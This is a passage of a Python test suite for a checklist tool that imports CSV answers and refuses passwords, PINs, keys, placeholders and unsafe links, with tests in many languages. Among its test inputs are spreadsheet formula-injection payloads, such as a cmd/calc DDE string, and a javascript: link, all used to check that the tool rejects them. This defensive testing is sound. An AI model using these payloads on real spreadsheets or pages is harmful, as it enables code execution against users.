    (recorded, box unticked); 'unknown' and 'pending approval by counsel on 3 March' are answers."""
    for value in H14_PUT_OFF:
        text, problems = cl.format_answer(cl.parse(FIXTURE).items["REQ-3"], value)
        assert (text, problems) == (None, [f"REQ-3: '{value.strip()}' is no answer: leave the cell empty until it "
                                           "is known, or write 'not needed: <reason>'"]), (value, problems)
    accepted_as_text(*H14_NOT_PUT_OFF)
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,Pending\n", "2: REQ-3: 'Pending' is no answer: leave the cell empty "
                        "until it is known, or write 'not needed: <reason>'")
        text = box.accepted("id,answer\nLIC-1,undecided\n")
        assert '- [ ] <a id="lic-1"></a>' in text and "**Answer:** `undecided`" in text


@test
def h14_4_working_order_is_linear_in_a_long_chain_of_items():
    """2,000 items, each unblocked by the next (the worst order for the old scan): placed in a short budget, each
    after its blocker; README.md's order is the routing goldens' (test_routing.py)."""
    anchor = '- [ ] <a id="lic-1"></a>'
    chain = "".join(f'- [ ] <a id="req-{k}"></a>**REQ-{k}** Synthetic {k}.\n  - **Form:** text.\n'
                    f'  - **Unblocks:** REQ-{k - 1}.\n  - `plan` · requester\n\n' for k in range(10, 2010))
    doc = cl.parse(FIXTURE.replace(anchor, chain + anchor, 1))
    order = quick(lambda: doc._order.clear() or [it.id for it in cl.working_order(doc)], 0.3)
    assert order.index("REQ-2009") < order.index("REQ-2008") < order.index("REQ-10"), order[:5]


@test
def h14_5_two_files_with_the_same_text_never_share_a_model():
    """load() of README.md in two folders (same text, same path as shown): two models, each with its own real path,
    so an import through the first writes the first."""
    with Sandbox() as a, Sandbox() as b:
        here = os.getcwd()
        try:
            os.chdir(a.dir)
            first = cl.load("README.md")
            os.chdir(b.dir)
            second = cl.load("README.md")
        finally:
            os.chdir(here)
        assert first is not second and first.real_path == a.doc.resolve() and second.real_path == b.doc.resolve()


@test
def h14_6_profiles_never_print_a_key_the_file_holds():
    """A key hand-edited into the profile table: `profiles` (any format, --show) refuses as `items` does."""
    key = "K 465b5ce8b199b49faa5f0a2ee238a6bc"
    with Sandbox(swap("| `lab` | Teaching lab | 4 |", f"| `lab` | Teaching lab, {key} | 4 |")) as box:
        expected = box.run("items").stderr
        assert "[secret] this looks like" in expected and "nothing printed" in expected, expected
        for command in (("profiles",), ("profiles", "--format", "csv"), ("profiles", "--show", "lab")):
            result = box.run(*command)
            assert (result.returncode, result.stdout, result.stderr) == (1, "", expected), (command, result)


@test
def h14_7_form_writes_the_same_bytes_under_any_hash_seed():
    """`form` under another PYTHONHASHSEED than this process's writes the same page as here (role lines in a fixed
    order); the process runs from another directory and finds README.md next to tools/ by itself."""
    seed = "2" if os.environ.get("PYTHONHASHSEED") == "1" else "1"
    with tempfile.TemporaryDirectory() as elsewhere, \
            subprocess.Popen([sys.executable, str(PROGRAM), "form"], stdout=subprocess.PIPE, cwd=elsewhere,
                             env={**os.environ, "PYTHONHASHSEED": seed}) as run:
        here = run_main("form")
        out, _ = run.communicate(timeout=60)
    assert (run.returncode, here.returncode) == (0, 0) and out.decode("utf-8") == here.stdout and here.stdout


# ---------------------------------------------------------------- the fifteenth hostile-input round (H15-1, H15-3,
# H15-5, H15-8)

@test
def h15_1_a_password_after_a_user_name_after_a_label_is_judged():
    """'credentials: admin / X', 'root, X', 'admin (X)', 'admin and X', 'login: admin / X', 'admin/Changeme_123':
    the token after a plain user name is judged too; 'admin account disabled', 'admin / see the vault' and names
    stay answers. The page judges the same (the parity corpus in test_form.py holds them)."""
    secret_judged(PASSWORD, *H15_PAIRS)
    accepted_as_text(*H15_PAIR_ACCEPTED)
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,credentials: admin / Tr0ub4dor&3x\n",
                        f"2: REQ-3: 'Tr0\u2026' (12 characters) after 'credentials:' looks like a password; "
                        f"{cl.CONFIDENTIAL}")
        refused_exactly(box, "id,answer\nREQ-3,login: admin/Changeme_123\n",
                        f"2: REQ-3: 'Cha\u2026' (12 characters) after 'login:' looks like a password; "
                        f"{cl.CONFIDENTIAL}")


@test
def h15_3_a_placeholder_word_inside_an_answer_is_the_respondents_text():
    """'Budget approved; exact figure TBD after the vendor quote' is recorded by import (the page accepts it too);
    the document's placeholder rule still finds TBD, TODO, XXX outside the Answers."""
    answer = "Budget approved; exact figure TBD after the vendor quote"
    with Sandbox() as box:
        text = box.accepted(f"id,answer\nREQ-3,{answer}\n")
        assert f"**Answer:** {answer}\n" in text and defects(text) == []
    broken = FIXTURE.replace("**REQ-3** The number of sites.", "**REQ-3** The number of sites TBD.", 1)
    assert broken != FIXTURE
    expect(broken, "placeholder", "sites TBD")
    assert [d.message for d in defects(broken)] == ["placeholder 'TBD' left in the text"]


@test
def h15_5_a_spreadsheet_error_value_or_a_bracketed_template_is_no_answer():
    """'#REF!', '#VALUE!', '#NAME?', '#DIV/0!', '#NULL!', '#NUM!', '#N/A', 'nan', 'null', '[answer here]', '<answer>'
    as a whole answer: refused with H14-3's message (the page gives the same: the parity corpus); sentences and an
    autolink that hold such words are answers."""
    item = cl.parse(FIXTURE).items["REQ-3"]
    for value in H15_SHEET:
        assert cl.format_answer(item, value) == (None, [f"REQ-3: '{value.strip()}' is no answer: leave the cell "
                                                        "empty until it is known, or write 'not needed: <reason>'"])
    assert [v for v in H15_NOT_SHEET if cl.format_answer(item, v) != (v, [])] == []
    with Sandbox() as box:
        refused_exactly(box, "id,answer\nREQ-3,#REF!\n", "2: REQ-3: '#REF!' is no answer: leave the cell empty "
                        "until it is known, or write 'not needed: <reason>'")


@test
def h15_8_a_password_like_routing_token_is_not_echoed_and_a_line_break_is_named():
    """A routing token that looks like a password is refused without echoing it; a cell with a line break is
    refused as one (the page gives the same messages: the parity corpus in test_form.py)."""
    with Sandbox() as box:
        result = box.run("import", box.csv("id,answer\nREQ-1,Hunter22x\n"))
        assert result.returncode == 1 and "Hunter22x" not in result.stderr + result.stdout, result
        refused_exactly(box, "id,answer\nREQ-1,Hunter22x\n", "2: REQ-1: a token that looks like a password "
                        "is not an answer of REQ-1 ['teaching', 'product']")
        refused_exactly(box, "id,answer\nREQ-1,teachin\n", "2: REQ-1: 'teachin' is not an answer of REQ-1 "
                        "['teaching', 'product']")
        refused_exactly(box, 'id,answer\nREQ-3,"Germany\nAustria"\n', "2: REQ-3: an answer is one line; put a "
                        "line break as '; '")


@test
def h16_snmp_and_http_versions_are_names_after_a_label_and_a_user_name():
    """'user: nms01, SNMPv3 user on every NE', 'credentials: SNMPv3 users per NMS': SNMP and HTTP versions are named
    as protocols, not judged as passwords, after a label or after a user name."""
    accepted_as_text(*H16_NAMES)


@test
def h16_a_user_and_a_password_apart_by_a_typed_dash_or_another_separator_are_judged():
    """'credentials: admin \u2013 Tr0ub4dor&3x' (an en dash, as a word processor types ' - '), ';', '|', '->', '=>':
    the password after the user name is judged, and named by its start and length."""
    secret_judged(PASSWORD, *H16_PAIRS)
    assert cl.text_problems("credentials: admin \u2014 Tr0ub4dor&3x") == [
        f"'Tr0\u2026' (12 characters) after 'credentials:' looks like a password; {cl.CONFIDENTIAL}"]



# ---------------------------------------------------------------- the seventeenth round (S17): a password or key
# near its name

@test
def s17_a_password_or_key_near_its_name_is_refused_wherever_it_stands():
    """'Zx9kq7Lm is the admin password', 'pw Zx9kq7Lm', '\u043f\u0430\u0440\u043e\u043b\u044c: Qwerty123', 'Ki 70 91 92 ...',
    'the wifi password is sunshine': an answer that names a password, PIN, login, token or key holds no token that
    looks like one, with or without a label, in several languages; a refusal names the token by its start and
    length and the word near it. Descriptions, pointers and products' names near such words stay answers."""
    assert [v for v in CONTEXT_REFUSED if not cl.text_problems(v)] == []
    accepted_as_text(*CONTEXT_ACCEPTED)
    assert cl.text_problems("pw Zx9kq7Lm") == [
        f"'Zx\u2026' (8 characters) near 'pw' looks like a password or key; {cl.CONFIDENTIAL} (a name or number that "
        "is no secret: say so in other words, as 'Ubuntu 22' or 'rotated yearly')"]
    with Sandbox(FIXTURE) as box:
        refused_exactly(box, "id,answer\nREQ-3,Nokia123 is the default password\n",
                        "2: REQ-3: " + cl.text_problems("Nokia123 is the default password")[0])


@test
def h17_18_blank_lines_before_the_header_are_skipped():
    """A blank line (or several) before the CSV's header, as some tools write, is skipped as a '#' line is."""
    with Sandbox() as box:
        text = box.accepted("\n\n id,answer\nREQ-3,Germany\n")
        assert "**Answer:** Germany" in text


@test
def h19_1_an_export_without_its_recorded_column_is_refused():
    """An exported sheet whose 'recorded' column was renamed ('was', 'previous') or deleted is refused, with or
    without --replace, so that an old packet never overwrites a newer answer unseen; a sheet typed by hand
    (id, answer) is read as before."""
    with Sandbox() as box:
        exported = box.run("items", "--format", "csv").stdout
        lines = exported.split("\n")
        at = next(k for k, line in enumerate(lines) if line.startswith("id,"))
        header = lines[at].split(",")
        k = header.index("recorded")
        renamed = "\n".join(lines[:at] + [",".join(header[:k] + ["previous"] + header[k + 1:])] + lines[at + 1:])
        dropped = "\n".join(lines[:at] + [",".join(header[:k] + header[k + 1:])])
        message = ("the header has an export's columns but not its 'recorded' column; keep that column as exported "
                   "(import compares it with the answer recorded now), or export again")
        for sheet in (renamed, dropped):
            for flags in ((), ("--replace",)):
                refused_exactly(box, sheet, f"{at + 1}: {message}", flags=flags)
        box.accepted("id,answer\nREQ-3,Germany\n")


@test
def h19_9_many_item_like_lines_are_checked_in_linear_time():
    """8,000 item-like lines outside the checklist ('- [ ] **ZZ-k** x') get their Unblocks checked and their working
    order in a budget several times its linear time (about 0.03 s): building each item's edges against a fresh set
    of every item was quadratic (0.5 s here; `check` took 14.5 s for 20,000 such lines in README.md)."""
    lines = "\n".join(f'- [ ] <a id="zz-{k}"></a>**ZZ-{k}** x' for k in range(8000))
    doc = cl.parse(FIXTURE.replace("\n## References", "\n\n" + lines + "\n\n## References", 1))
    assert quick(lambda: (doc._order.clear(), list(cl.unblock_order(doc)), len(cl.working_order(doc)))[2], 0.5) > 8000


@test
def h20_1_replace_replaces_only_an_answer_its_row_names():
    """--replace replaces a recorded answer only where the row's 'recorded' cell names it: a packet trimmed to
    'id, ask, answer' or with its 'recorded' column renamed away, and a sheet typed by hand, replace nothing."""
    with Sandbox() as box:
        box.accepted("id,answer\nREQ-3,Germany\n")
        message = ("2: REQ-3 already has a different answer; to replace it, put that answer in a 'recorded' column "
                   "(an export has one: items --format csv), so that no answer is replaced unseen")
        for sheet in ("id,ask,answer\nREQ-3,,Spain\n", "id,answer\nREQ-3,Spain\n"):
            refused_exactly(box, sheet, message, flags=("--replace",))
        box.refused("id,question,answer,was\nREQ-3,x,Spain,Germany\n", "the 'question' column is not recorded",
                    "--replace")
        assert "**Answer:** Spain" in box.accepted("id,answer,recorded\nREQ-3,Spain,Germany\n", "--replace")


@test
def h20_7_a_credentials_name_spelled_like_a_password_is_not_quoted():
    """When the word taken for a credential's name holds digits or symbols ('P@ssw0rd', 'PASSW0RD'), a refusal
    names neither it nor the token whole."""
    problem = cl.text_problems("USERID / PASSW0RD")[0]
    assert "PASSW0RD" not in problem and "near a password's name" in problem, problem
    assert "near 'mot de passe'" in cl.text_problems("mot de passe Zx9kq7Lm")[0]


@test
def h21_1_a_header_of_many_empty_columns_is_read_in_linear_time():
    """A header of 20,000 empty columns above 2,000 short rows is read in a fraction of a second: each row was
    padded to the header's width, and each unnamed column looked up on every row (100,000 such columns took 239 s)."""
    text = "id,answer" + "," * 20_000 + "\n" + "REQ-3,x\n" * 2000
    rows, problems = quick(lambda: cl.csv_rows(text, ","), 0.3)
    assert len(rows) == 2000 and not problems
    named = "id,answer" + "".join(f",c{k}" for k in range(20_000)) + "\n" + "REQ-3,x\n" * 2000   # H55-4: 56 s
    rows, problems = quick(lambda: cl.csv_rows(named, ","), 0.5)
    assert len(rows) == 2000 and not problems


@test
def h26_5_a_vendors_published_default_is_refused_as_a_password():
    """'admin / admin', 'elastic / changeme', 'admin / password': a default that a vendor publishes is still the
    password of a requester's device; one said to be replaced, or tried to prove it fails, is an answer."""
    assert cl.text_problems("TP-Link access points admin/admin")[0].startswith(
        "'a\u2026' (5 characters) near a password's name looks like a password or key;")
    assert cl.text_problems("Oracle test schema scott / tiger") and cl.text_problems("root / pass on the cameras")
    accepted_as_text("admin/admin replaced at commissioning", "roles: admin / operator / viewer", "read/write")


@test
def h22_a_value_given_for_a_password_pin_code_or_key_is_refused_whatever_its_shape():
    """'Passwort Elbsandstein', 'ops / Wendelstein', 'Otterburn is the password', 'Code 4719': a value bound to a
    password's, passphrase's, PIN's, code's or key's name is refused though it is a plain word, a phrase or a short
    number; words that describe or point, schemes, placeholders, paths and counts there stay answers. The refusal
    names the value by its start and the name near it, in linear time."""
    assert [v for v in BOUND_REFUSED if not cl.text_problems(v)] == []
    accepted_as_text(*BOUND_ACCEPTED)
    assert cl.text_problems("user omc, pass haversack") == [
        f"'hav\u2026' (9 characters) near 'pass' looks like a password or key; {cl.CONFIDENTIAL} (a name or number "
        "that is no secret: say so in other words, as 'Ubuntu 22' or 'rotated yearly')"]
    quick(lambda: [cl.text_problems(line) for line in ("x " + "[" * 1990, "password " * 220, "door 1 " * 280,
                                                        "a / " * 490, "use " * 490, "is " * 660)], 0.6)


@test
def h22_a_ranked_list_may_start_an_answer():
    """REQ-6 asks for a ranked list: '1. URLLC for cranes (10 ms), 2. video uplink' is recorded and the checklist
    stays valid, as '1.' after '**Answer:**' is text; '#', '*' and '|' still may not start an answer (H21-10)."""
    with Sandbox(README.read_text(encoding="utf-8")) as box:
        text = box.accepted('id,answer\nREQ-6,"1. URLLC for cranes (10 ms), 2. video uplink, 3. MCPTT"\n')
        assert cl.parse(text).items["REQ-6"].get("Answer").startswith("1. URLLC")
        assert box.run("check").returncode == 0
    assert cl.text_problems("* 10 channels") == ["the answer may not start with a list, heading or table marker"]


@test
def h29_9_a_command_lines_refusal_quotes_its_own_label_or_none():
    """A value on a command or configuration line is refused near the label the line gives it ('authentication
    text'), or near 'a password's name' where the line has none ('echo X | passwd'), never near a word it lacks."""
    assert "near 'authentication text'" in cl.text_problems("vrrp 3 authentication text Qx7Heron")[0]
    assert "near a password's name" in cl.text_problems("echo 'Quarry77' | passwd --stdin ops")[0]


@test
def h26_10_a_hand_edit_that_cannot_be_put_back_is_named_kept_and_exits_2():
    """A hand edit written into README.md between the hard link and the rename, whose put-back then fails: the
    answers stay written (exit 2, not 1, which says nothing was written), the message names the file that keeps
    the edit, and that file survives the next import."""
    real = os.replace
    with Sandbox() as box:
        original = box.doc.read_bytes()
        calls = []

        def replace(source, target):
            calls.append(source)
            if len(calls) == 1:                       # the rename: an editor writes into the old file first
                with open(box.doc, "ab") as f:
                    f.write(b"\nA hand edit.\n")
                return real(source, target)
            raise PermissionError(13, "Permission denied")
        os.replace = replace
        try:
            result = box.run("import", box.csv("id,answer\nREQ-3,12 sites\n"))
        finally:
            os.replace = real
        kept = [p for p in box.dir.iterdir() if p.name.startswith(".README.md.")]
        assert result.returncode == 2 and len(kept) == 1 and kept[0].name in result.stderr, result
        assert kept[0].read_bytes() == original + b"\nA hand edit.\n" and b"12 sites" in box.doc.read_bytes()
        box.accepted("id,answer\nLIC-1,no\n")
        assert kept[0].exists()


@test
def h25_13_an_import_removes_the_temporary_files_a_killed_import_left():
    """A SIGKILL between writing the new text and the swap leaves '.README.md.checklist-RANDOM.tmp' (mode 0600,
    the whole new text) next to the checklist: the next import, holding the lock, removes it, and nothing else: not
    a user's file of a like name, even of eight letters and digits, nor the backup that a refusal names (H26-10)."""
    with Sandbox(FIXTURE) as box:
        left = box.dir / ".README.md.checklist-k3x9q2ab.tmp"
        kept = [box.dir / name for name in (".README.md.notes.txt", ".README.md.mynotes.tmp", ".README.md.backup01.tmp",
                                            ".README.md.5f1c0a9b2e7d.tmp")]   # a user's files, a named backup
        for path in [left] + kept:
            path.write_text("text", encoding="utf-8")
        box.accepted("id,answer\nREQ-3,Germany\n")
        assert not left.exists() and all(path.exists() for path in kept)


@test
def u143_a_partys_page_carries_no_other_partys_answers():
    """A page for --party counsel routes with every item but carries the answer of an item it does not show
    (SEC-8, the requester's) only as its state, so that forwarding it to counsel forwards no security detail; the
    routing items' and blockers' answers travel with it, as with every packet."""
    with Sandbox(README.read_text(encoding="utf-8")) as box:
        box.accepted("id,answer\nSEC-8,Vier-Augen-Freischaltung per Ticket CHG-4411\nREQ-3,Germany\n")
        page = box.run("form", "--party", "counsel").stdout
        assert "CHG-4411" not in page and cl.WITHHELD in page and "Germany" in page
        assert "CHG-4411" in box.run("form").stdout


@test
def h33_alarms_switched_off_other_scripts_digits_and_quoted_passphrases():
    """Round 33: an alarm's name and a verb that switches it off give a code's number ('La alarma … se apaga con el
    4093', 'Larmet … slås av med 7730', 'Alarmı 6620 ile kapatın'); digits of other scripts read as ASCII ('PIN ٣٩٢٧');
    a quoted passphrase of short words is judged whole. Alarm numbers, durations and years stay answers (the
    strings are in BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert cl.text_problems("La alarma del almac\u00e9n se apaga con el 4093")[0].startswith(
        "'4\u2026' (4 characters) near 'alarma' looks like a password or key")
    assert cl.text_problems('La passphrase della chiave \u00e8 "il vento soffia sul colle"')[0].startswith(
        "'il \u2026' (25 characters) near 'passphrase'")
    assert cl.text_problems("PIN \u0663\u0669\u0662\u0667")[0].startswith("'\u0663\u2026' (4 characters) near 'PIN'")
    accepted_as_text("Alarm 3021 is raised when the link drops", "alarms off for 120 seconds during upgrades",
                     "alarm turned off in 2025 for 3 sites")


@test
def h38_keypad_numbers_dial_turns_and_a_protected_file_opened_with_its_password():
    """Round 38: a number typed on a keypad ('composer … sur le clavier') or an alarm acknowledged with it ('mit …
    quittieren'), a safe's combination as turns of its dial, a password a protected file is opened with, short names
    for a password ('пасс', 'hasełko', 'sésame', 🗝) are refused; an alarm's own number acknowledged, an emergency
    number, a tool that opens an encrypted file stay answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.text_problems("Safe: 31 left, 8 right, 52 left")[0].startswith("'31 \u2026' (25 characters) near 'Safe'")
    assert "near 'open it with'" in cl.text_problems("The bid archive is encrypted; open it with Hollyhock85")[0]
    assert "near 'quittieren'" in cl.text_problems("Die St\u00f6rung bitte mit 40627 quittieren")[0]


@test
def h39_codes_named_in_more_languages_and_a_pin_described_in_words():
    """Round 39: a PIN in Cyrillic ('ПИН'), a safe and its combination in Croatian, Finnish and Hungarian, Catalan
    'codi … és', a Czech login pair, key and cabinet codes, an authentication code, 'on the pad', a known default
    after 'password' though it reads as a verb ('changeit') are refused; a PIN described in words in any language
    ('PIN aktiv', 'PIN etkin'), a count of cards after it, a time window near 'contraseña', an amount after
    'coffre-fort' and an agency's name ('BNetzA-Stellungnahme') stay answers (the strings are in BOUND_REFUSED and
    BOUND_ACCEPTED); a PIN spelled in number words or roman numerals is still refused."""
    assert "near '\u041f\u0418\u041d'" in cl.text_problems("\u041f\u0418\u041d \u043d\u0430 \u043a\u0430\u0440\u0442\u0430\u0442\u0430: 5904")[0]
    for spelled in ("PIN: vier-null-sieben-eins", "PIN: IV-II-IX-I", "code PIN : cinq trois huit deux"):
        assert cl.text_problems(spelled), spelled


@test
def h40_codes_safes_and_pins_in_more_languages_and_words_that_follow_a_password_s_name():
    """Round 40: alarm codes in Hungarian and Romanian, 'ПИН кодът … е', a safe in Catalan, Lithuanian, Latvian,
    Arabic and Thai, a PIN in Hindi, a security answer, defaults after any name ('with change_on_install') and
    'nagiosadmin / nagios' are refused; a verb after 'password' ('ships'), French and Hungarian and Turkish words
    for 'defined' and 'without', 'boot-ROM' after 'clé' and a postcode stay answers (the strings are in
    BOUND_REFUSED and BOUND_ACCEPTED). A refusal quotes the value where it stands as a whole word."""
    assert cl.text_problems("demo box: nagiosadmin / nagios")[0].startswith("'na\u2026' (6 characters)")
    assert cl.as_typed("nagios", "nagiosadmin / nagios") == "nagios" and cl.as_typed("pass", "passwort: x") == "passwort"


@test
def h41_passwords_and_codes_in_more_languages_digits_spelled_in_nine_and_users_by_address():
    """Round 41: the word for a password in Catalan, Lithuanian, Malay, everyday Arabic and Thai, a Czech access pair,
    alarm codes in Slovene, Estonian, Persian, Serbian and Thai, a code's digits spelled in German, French, Spanish,
    Dutch, Swedish or Russian, a signing code in groups and an account given as an address and its password are
    refused; a company's name ('Nordwind Networks GmbH') is no base64, a host and port after 'Password-reset' no
    password (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert "near 'Koda'" in cl.text_problems("Koda alarma v pisarni: 6204")[0]
    assert cl.text_problems("der Code f\u00fcr das Tor ist vier neun null zwei")[0].startswith("'vie\u2026'")


@test
def h42_key_boxes_meeting_codes_and_code_words_in_more_languages():
    """Round 42: repository and enrolment keys, login and participant codes, 'parola chiave', 'frase de segurança',
    'кодовое слово', a key box in Dutch, Korean, Arabic and Swahili, 'ПИН-код' before a note in brackets, 'パスコード',
    a one-time code in Swedish, a door in Turkish, digits spelled in Polish and Czech are refused; 'parola yok' and an
    Arabic postcode stay answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert "near 'Parola chiave'" in cl.text_problems("Parola chiave per la banca: \u00abfenicottero\u00bb")[0]


@test
def h43_padlocks_in_fifteen_languages_and_ctrl_c_while_arguments_are_read():
    """Round 43: a padlock's code in Danish, Norwegian, Turkish, Arabic, Hebrew, Korean, Indonesian, Vietnamese,
    Greek, Hungarian, Romanian, Catalan, Thai, Swahili and Malay, digits spelled in Turkish, 'één', 'code porteur',
    an English 'code' before keys pressed in turn are refused; a port in Spanish, a phone number near a combination
    lock, a statute's section and an LDPC code word stay answers (the strings are in BOUND_REFUSED and
    BOUND_ACCEPTED). Ctrl-C while the arguments are read is 'interrupted; nothing written.', code 1."""
    real = cl.build_parser

    def interrupted():
        raise KeyboardInterrupt
    cl.build_parser = interrupted
    try:
        result = run_main("status")
    finally:
        cl.build_parser = real
    assert (result.returncode, result.stderr) == (1, "interrupted; nothing written.\n"), result


@test
def h44_an_intruder_alarm_s_digits_typed_in_turn_in_any_language():
    """Round 44: single digits typed in turn in a text that names an intruder alarm (German, French, Dutch, Danish,
    Japanese, Arabic, Vietnamese) are refused; a count ('1 2 3 4') near an alarm and 'heslo neobsahuje' stay answers
    (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.text_problems("Tyverialarmen: frakobl med 9 1 4 7")[0].startswith("'9 \u2026' (7 characters) near 'Tyverialarmen'")


@test
def h45_wi_fi_keys_alarm_panels_key_boxes_and_safes_in_more_languages():
    """Round 45: a word and a year given for a Wi-Fi network in any language, an alarm panel's installer or master code,
    key boxes, key vaults, safes and intercoms in more languages (Danish, Finnish, Vietnamese, Indonesian, Hindi,
    Arabic, Polish, Italian), a number put on a padlock and single digits typed at a door are refused; a model's or
    serial number, a customer number, a phone number written the national way, a PIN pad, a password manager's entry
    and 'est remis' stay answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.text_problems("Misafir Wi-Fi: Aycicegi2024")[0].startswith("'Ayc\u2026' (12 characters) near a password's")
    assert cl.text_problems("Wi-Fi: Building12 floor plan") == []


@test
def h46_a_code_before_its_name_passphrases_defaults_left_in_place_and_phone_numbers():
    """Round 46: a code's number before its name in any language, passphrases and passwords in more languages (Czech,
    Swedish, Finnish, Hungarian, Estonian, Latvian, Icelandic, Afrikaans, Swahili, Bengali, Hindi), a vendor's default
    left in place or given after its account with a space, escort, visitor and mantrap codes are refused; national
    phone numbers after a code's name, ticket numbers in more languages and the participles that say a password
    expired or was reset stay answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.text_problems("4711 ist der T\u00fcrcode vom Technikraum")[0].startswith("'4\u2026' (4 characters) near")
    assert cl.phone_blanked("ring 0171 2345678 or 0427") == "ring              or 0427"


@test
def h46_p2_a_file_that_is_no_checklist_or_too_large_and_a_file_named_like_an_option():
    """Round 46 (H46-52, H46-28, H46-57): every view but 'check' refuses a file with no items (a note, or a checklist
    with CR-only line endings) instead of reporting nothing open; a checklist over MAX_DOC_BYTES is refused before it
    is read; a CSV whose name starts with '-' gets a hint to write './'."""
    with Sandbox("hello\n") as box:
        for command in ("status", "items", "import"):
            args = (command, "--file", box.doc) + ((box.csv("id,answer\nREQ-3,4\n"),) if command == "import" else ())
            result = run_main(*args)
            assert result.returncode == 2 and "no checklist items found; is this the checklist?" in result.stderr, result
        assert run_main("check", "--file", box.doc).returncode == 1
        box.doc.write_bytes(FIXTURE.replace("\n", "\r").encode())
        assert "no checklist items found" in run_main("status", "--file", box.doc).stderr
        with open(box.doc, "wb") as f:
            f.truncate(cl.MAX_DOC_BYTES + 1)
        result = run_main("check", "--file", box.doc)
        assert result.returncode == 2 and "larger than 4 MiB; is this the checklist?" in result.stderr, result
        result = run_main("import", "--file", box.doc, "-x.csv")
        assert result.returncode == 2 and "write ./-x.csv" in result.stderr, result


@test
def h47_recovery_codes_in_more_languages_opening_hours_and_meeting_ids():
    """Round 47: backup and recovery codes and recovery keys in more languages, gates and barriers ('Grindkod',
    'Slagboom'), a Ukrainian PIN, the Arabic indefinite 'password', 'Kenncode', and a name written with a non-breaking
    hyphen ('Pass\u2011word') are refused; opening hours, a meeting's ID, an extension after 'call', customs codes,
    password managers' names and policy words in more languages stay answers (the strings are in BOUND_REFUSED and
    BOUND_ACCEPTED)."""
    assert cl.schedule_blanked("Gate 3 open 0700-1800, code 4471") == "Gate 3 open          , code 4471"
    assert cl.text_problems("Gate 3: 0700-1800") != []        # no word says these are hours


@test
def h47_p2_views_never_copy_a_recorded_secret_and_answers_link_and_start_safely():
    """Round 47 (H47-26, H47-2, H47-5, H47-20): 'items', 'status', 'profiles' and 'form' refuse a file whose recorded
    answer gives a secret (hand-typed), naming its line, and print nothing; an answer's length is counted as it is
    recorded (NFC); the full-width and small forms of '=', '+', '-' and '@' start a formula too; a link may use
    http, https or mailto, not 'javascript:'."""
    text = FIXTURE.replace("  - **Form:** a number.", "  - **Form:** a number.\n  - **Answer:** door code 4071", 1)
    text = text.replace('- [ ] <a id="req-3"></a>', '- [x] <a id="req-3"></a>', 1)
    with Sandbox(text) as box:
        line = text[:text.index("door code 4071")].count("\n") + 1
        for command in ("items", "status", "form"):
            result = run_main(command, "--file", box.doc, "--format", "csv") if command == "items" else \
                run_main(command, "--file", box.doc)
            assert result.returncode == 1 and result.stdout == "" and f":{line}: [answer] REQ-3: '4" in result.stderr, result
            assert "4071" not in result.stderr, result
    assert cl.text_problems("\u0958" * 1999)[0].startswith("the answer is longer than 2,000")   # 2,998 in NFC
    for sign in "\uff1d\uff0b\uff20\ufe66":
        assert "runs as a formula" in cl.text_problems(sign + "SUM(A1:A2)")[0], sign
    assert cl.text_problems("<javascript:alert(document.domain)>") == [
        "the answer may link only to http, https or mailto addresses (<https://...>)"]
    assert cl.text_problems("see <https://example.org/a> and <mailto:legal@example.org>") == []


@test
def h48_codes_and_recovery_codes_in_more_scripts_and_the_kinds_of_code_that_are_no_secret():
    """Round 48: a code's or PIN's name in Urdu, Persian, Tamil, Basque and Serbian Cyrillic, recovery codes in ten more
    languages, a Hebrew password given as digits and the Filipino 'ay' are refused; an error's, product's, project's,
    employee's, customer's or postal code in those languages and a list of numbers after a label stay answers (the
    strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.code_number("Padlock serial numbers 0427, 0428 and 0429; door 5183") == ("5183", "door")


@test
def h49_a_code_s_name_inflected_or_after_its_number_and_passphrases_in_more_languages():
    """Round 49: a code's name inflected (Turkish, Hungarian, Estonian, Icelandic, Macedonian, Georgian, Arabic), after its
    number in the instrumental ('2580 koduyla', '2580 kodu ilə'), or in a compound ('hurðarkóði', 'deurkode'), and
    passphrases in Finnish, Romanian and Greek are refused; 'nothing left' in Turkish and Icelandic, a date with its case
    ending ("03.06.2026'da"), a file number read as no user ('Az. 214-7-2026/0417'), network and identification codes stay
    answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.number_before_code("a 4417 k\u00f3ddal ny\u00edlik") == ("4417", "k\u00f3ddal")
    assert cl.number_before_code("Hata 29240 koduyla kapan\u0131r") is None      # an error's code


@test
def h50_p2_views_warn_on_a_file_that_fails_its_check_and_a_phone_number_opens_no_formula():
    """Round 50 (H50-29, H50-8): 'status', 'items', 'form' and 'profiles' on a checklist cut short say on stderr that it
    fails its own check, with the first defect's line, before what they print; a phone number may start an answer only
    when a word or the end follows it and nothing a formula needs stands anywhere after ('+1-555-0100*2' is refused)."""
    with Sandbox(FIXTURE[:len(FIXTURE) // 2]) as box:
        for command in ("status", "items", "profiles"):
            result = run_main(command, "--file", box.doc)
            assert "warning: this file fails its own check (" in result.stderr and "'check' lists them" in \
                result.stderr, (command, result)
    with Sandbox() as box:
        assert "warning" not in run_main("status", "--file", box.doc).stderr
    for text in ("+1 (555) 010-0199 (NOC)", "+49 89 1234567, ask for Jo"):
        assert cl.text_problems(text) == [], text
    for text in ("+44 20 7946 0123,=cmd|'/C calc'!A0", "+44 20 7946 0123+HYPERLINK(\"http://x\")", "+" + "1 " * 990):
        assert "runs as a formula" in cl.text_problems(text)[0], text


@test
def h50_passphrases_key_boxes_and_codes_in_the_world_s_business_languages_and_one_sentence_at_a_time():
    """Round 50: passphrases in Chinese, Japanese, Arabic, Polish, Indonesian, Vietnamese and Hindi, key boxes in
    Japanese, Korean, Italian, Indonesian and Hindi, digits glued to a Japanese or Korean word, unlock keys and access
    codes are refused; a phone number with its area code in brackets or after a cue in Chinese, Portuguese or Czech, an
    extension, Turkish pointers, and a number in another sentence than a password's name stay answers (the strings are
    in BOUND_REFUSED and BOUND_ACCEPTED)."""
    assert cl.credential_sentences("Passwords are sealed. Budget 2026 is 5000") == "Passwords are sealed."
